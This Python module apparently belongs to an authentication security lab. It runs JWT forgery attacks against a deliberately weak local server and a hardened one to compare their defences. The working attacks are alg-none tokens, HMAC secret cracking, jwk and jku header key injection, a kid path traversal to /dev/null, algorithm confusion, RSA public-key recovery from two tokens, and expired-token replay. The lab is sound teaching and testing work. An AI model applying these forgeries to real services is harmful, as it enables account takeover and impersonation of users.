"""The lab's JWT attacks, one function each, and the table of every attack by weakness name.

Both servers of a JWT attack share one key, so the forged token is built once and the very
same bytes go to each. The attacker logs in with an account of their own (eve@example.com,
user 2) and wants to be user 1, a@b.com: the same two accounts as the session attacks.
"""

from __future__ import annotations

import json
import secrets
import threading
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from authcli.passwords import ATTACKER_EMAIL, ATTACKER_PASSWORD, DEMO_USER_ID, lab_users
from authcli.server.schemes.jwt_auth import JwtAuth
from authcli.server.lab.jwt_weak import lab_key
from authcli.server.lab.weaknesses import WEAKNESSES, Weakness, jwt_policy
from authcli.tokens.parse import split
from authcli.tokens.signing import make_signing_key
from authcli.tokens.forge import sign_hmac, sign_with, tampered, unsigned
from authcli.walkthroughs.lab.model import Attack, Outcome, Pair, outcome, welcomed
from authcli.walkthroughs.lab.injection import KID_SQL
from authcli.walkthroughs.lab.logins import LOGIN_ATTACKS
from authcli.walkthroughs.lab.oauth import OAUTH_ATTACKS
from authcli.walkthroughs.lab.sessions import SESSION_ATTACKS
from authcli import clock

VICTIM = {"sub": str(DEMO_USER_ID), "userId": DEMO_USER_ID}  # a@b.com, whom the attacker wants to be
CREDENTIALS = {"email": ATTACKER_EMAIL, "password": ATTACKER_PASSWORD}  # the attacker's own account


class JwksHost:
    """The attacker's key server: one JSON document on another loopback port, counting fetches."""

    def __init__(self, document: dict[str, Any]):
        body = json.dumps(document).encode()
        self.fetches = [0]
        fetches = self.fetches

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 - http.server's name
                fetches[0] += 1
                self.send_response(200)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *args: Any) -> None:  # never print
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}/jwks.json"
        self._thread = threading.Thread(target=self._server.serve_forever, name="authcli-lab-jwks")

    def __enter__(self) -> JwksHost:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._server.shutdown()
        self._thread.join()
        self._server.server_close()


def jwt_apps(w: Weakness) -> tuple[JwtAuth, JwtAuth]:
    """The weak server and the hardened one, with one key (a random one for the hardened
    server of weak-secret: a strong secret is its defence)."""
    key = lab_key([w])
    hard_key = make_signing_key(w.alg) if w.secret else key
    if w.name == "kid-path":
        key = hard_key = replace(key, kid="server-key")
    return (JwtAuth(key, 300, policy=jwt_policy([w]), users=lab_users(), weak=(w.name,)),
            JwtAuth(hard_key, 300, users=lab_users()))


def _login(pair: Pair, server) -> tuple[Any, str]:
    ex = pair.send(server, "POST", "/login", json=CREDENTIALS)
    return ex, json.loads(ex.response.body)["token"]


def _both(pair: Pair, forged: str, before: list, notes: tuple[list[str], list[str]] = ([], [])) -> tuple[Outcome, Outcome]:
    """Send the same forged token to both servers' /profile; `before` is what the attacker did
    on the weak server to make it (the servers share a key, so it fits both)."""
    out = []
    for server, shown, extra in ((pair.weak, before, notes[0]), (pair.hard, [], notes[1])):
        ex = pair.send(server, "GET", "/profile", headers={"Authorization": f"Bearer {forged}"})
        out.append(outcome([*shown, ("the forged token", ex)], won_if=welcomed(DEMO_USER_ID), notes=extra))
    return out[0], out[1]


def _victim_claims(token: str) -> dict[str, Any]:
    return {**split(token).payload, **VICTIM}


def no_verify(pair: Pair):
    login, token = _login(pair, pair.weak)
    return _both(pair, tampered(token, **VICTIM), [("the attacker logs in as user 2", login)])


def alg_none(pair: Pair):
    login, token = _login(pair, pair.weak)
    return _both(pair, unsigned({"alg": "none", "typ": "JWT"}, _victim_claims(token)), [("log in", login)])


def weak_secret(pair: Pair):
    from authcli.tokens.crack import crack, wordlist

    login, token = _login(pair, pair.weak)
    found = crack(split(token), wordlist(), max_seconds=10)
    if found.secret is None:
        return (Outcome([("log in", login)], False, "the wordlist did not hold the secret"),
                Outcome([], False, ""))
    _, hard_token = _login(pair, pair.hard)
    missed = crack(split(hard_token), wordlist(), max_seconds=10)
    forged = sign_hmac({"alg": "HS256", "typ": "JWT"}, _victim_claims(token), found.secret)
    return _both(pair, forged, [("log in", login)], (
        [f"Offline, from that one token, the attacker tried authcli's wordlist (authcli crack) and "
         f"found the secret {found.secret.decode('utf-8', 'replace')!r} at guess {found.tried}, in "
         f"{found.seconds * 1000:.1f} ms, then signed a token for user 1 with it."],
        [f"The same wordlist against a token from this server: {missed.tried} guesses, "
         f"{'not found' if missed.secret is None else 'FOUND'}. Its secret is 256 random bits "
         "(secrets.token_urlsafe(32)); the forged token, signed with mySecretKey, does not match."]))


def _attacker_key() -> tuple[Any, dict[str, Any]]:
    from cryptography.hazmat.primitives.asymmetric import rsa

    from authcli.tokens.keys import pyjwt

    private = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    jwk = json.loads(pyjwt().algorithms.RSAAlgorithm.to_jwk(private.public_key()))
    return private, {**jwk, "kid": "attacker"}


def jwk_header(pair: Pair):
    login, token = _login(pair, pair.weak)
    private, jwk = _attacker_key()
    forged = sign_with(private, {"alg": "RS256", "jwk": jwk}, _victim_claims(token))
    return _both(pair, forged, [("log in", login)], (
        ["The attacker made an RSA key pair of their own, put the public half in the token's jwk "
         "header, and signed with the private half."], []))


def jku_header(pair: Pair):

    login, token = _login(pair, pair.weak)
    private, jwk = _attacker_key()
    host = pair.stack.enter_context(JwksHost({"keys": [jwk]}))
    forged = sign_with(private, {"alg": "RS256", "jku": host.url, "kid": "attacker"}, _victim_claims(token))
    weak, hard = _both(pair, forged, [("log in", login)])
    fetched = host.fetches
    weak.notes.append(f"The attacker serves a JWKS with their own public key at {host.url} (another "
                      f"port on this machine) and names it in the token's jku header. The weak server "
                      f"fetched it {fetched[0]} time{'s' if fetched[0] != 1 else ''}.")
    hard.notes.append(f"The attacker's JWKS server was asked {host.fetches[0] - fetched[0]} more times: "
                      "the hardened server never followed the URL.")
    return weak, hard


def kid_path(pair: Pair):
    login, token = _login(pair, pair.weak)
    forged = sign_hmac({"alg": "HS256", "typ": "JWT", "kid": "../../../../../../../../dev/null"},
                       _victim_claims(token), b"")
    return _both(pair, forged, [("log in", login)], (
        ["The server's tokens name their key file in kid (\"server-key\"). The attacker sets kid to "
         "../../../../../../../../dev/null, a file every Linux machine has and that reads as zero "
         "bytes, and signs with an empty key."], []))


def alg_confusion(pair: Pair):
    from authcli.tokens.keys import pyjwt
    from cryptography.hazmat.primitives import serialization

    login, token = _login(pair, pair.weak)
    jwks = pair.send(pair.weak, "GET", "/.well-known/jwks.json")
    public = pyjwt().algorithms.RSAAlgorithm.from_jwk(json.loads(jwks.response.body)["keys"][0])
    pem = public.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    forged = sign_hmac({"alg": "HS256", "typ": "JWT"}, _victim_claims(token), pem)
    return _both(pair, forged, [("log in", login), ("the public key", jwks)], (
        [f"The server publishes its RSA public key (anyone may have it). The attacker writes it "
         f"as PEM ({len(pem)} bytes) and uses those bytes as an HS256 secret: a server that lets "
         "the token pick HS256 checks the HMAC with the same bytes."], []))


def alg_confusion_no_key(pair: Pair):
    from authcli.errors import WalkthroughError
    from authcli.server.lab.jwt_weak import public_pem
    from authcli.tokens.recover import recover

    first, token = _login(pair, pair.weak)
    second, other = _login(pair, pair.weak)
    jwks = pair.send(pair.weak, "GET", "/.well-known/jwks.json")
    found = recover(split(token), split(other))
    pem = found.pem()
    if pem != public_pem(pair.weak.app.key):  # told only when it is so: the attacker's key is the server's
        raise WalkthroughError("alg-confusion-no-key: the recovered key is not the server's public key")
    bits = found.n.bit_length()
    forged = sign_hmac({"alg": "HS256", "typ": "JWT"}, _victim_claims(token), pem)
    return _both(pair, forged, [("log in", first), ("log in again", second), ("no public key", jwks)], (
        [f"The server publishes no key (GET /.well-known/jwks.json: {jwks.response.status}). The attacker "
         "logs in twice and keeps both tokens. An RS256 signature s is m^d mod n, where m is the PKCS #1 "
         "v1.5 encoding of the SHA-256 of header.payload, which anyone can compute [^rfc8017-9.2]; so "
         "s^e - m is a multiple of n for each token, with e = 65537, the exponent nearly every RSA key "
         "uses [^portswigger-alg-confusion].",
         f"With gmpy2, gcd(s1^e - m1, s2^e - m2) over two numbers of about {bits * 65537 // 10 ** 6} million bits "
         f"took {found.seconds:.1f} s and gave k times n, k={found.divided_out} (small factors are divided out): "
         f"a {bits}-bit modulus that verifies both tokens' signatures, and authcli checked that it is the "
         f"server's public key. As PEM ({len(pem)} bytes) it is the HS256 secret, exactly as in alg-confusion.",
         f"This lab's server signs with a {bits}-bit key, the smallest RS256's encoding fits in, to keep "
         "the wait short. Real keys are 2048 bits or more [^rfc7518-3.3], and the same gcd recovers them "
         "too; it only takes longer, as the numbers grow with the key (benchmarks/recover_key.py measures "
         "512, 1024 and 2048 bits)."], []))


def no_exp(pair: Pair):
    from authcli.tokens.signing import issue

    key = pair.weak.app.key
    year_ago = int(clock.now()) - 365 * 24 * 3600
    old = issue(key, {**VICTIM, "iat": year_ago, "exp": year_ago + 300, "jti": secrets.token_urlsafe(16)})
    return _both(pair, old, [], (
        ["The attacker found a token user 1 was given a year ago, in an old log file. It was "
         "signed by this server's key and expired five minutes after it was issued."], []))


def _jwt(name: str, run, knows: str, predict: str) -> Attack:
    return Attack(WEAKNESSES[name], knows, run, jwt_apps, predict)


ATTACKS = {a.weakness.name: a for a in [
    _jwt("no-verify", no_verify, "The attacker logs in as user 2 (eve@example.com), then changes sub "
         "to \"1\" (a@b.com) in the payload and keeps the old signature.", "A token with its payload changed, old signature kept."),
    _jwt("alg-none", alg_none, "The attacker writes a header saying alg none, a payload for user 1, "
         "and no signature at all.", "An unsigned token (alg: none) for user 1."),
    _jwt("weak-secret", weak_secret, "The attacker logs in once and takes the token home: its "
         "signature can be checked against guesses offline, with no contact with the server.",
         "A token signed with a secret guessed offline."),
    _jwt("jwk-header", jwk_header, "The attacker signs a token for user 1 with a key of their own.",
         "A token carrying its own key in the jwk header."),
    _jwt("jku-header", jku_header, "The attacker signs a token for user 1 with a key of their own, "
         "published where the token says.", "A token whose jku header points at the attacker's keys."),
    _jwt("kid-path", kid_path, "The attacker signs a token for user 1 with an empty key.",
         "A token whose kid points at /dev/null, signed with an empty key."),
    KID_SQL,
    _jwt("alg-confusion", alg_confusion, "The attacker fetches the server's public key and signs a "
         "token for user 1 with HS256, using the public key as the secret.",
         "An HS256 token signed with the server's public key."),
    _jwt("alg-confusion-no-key", alg_confusion_no_key, "The attacker has no public key to fetch: "
         "they recover it from two of the server's tokens, then sign a token for user 1 with HS256, "
         "using it as the secret.", "An HS256 token signed with a public key recovered from two tokens."),
    _jwt("no-exp", no_exp, "The attacker replays a token that expired a year ago.",
         "A token that expired a year ago."),
    *SESSION_ATTACKS,
    *LOGIN_ATTACKS,
    *OAUTH_ATTACKS,
]}
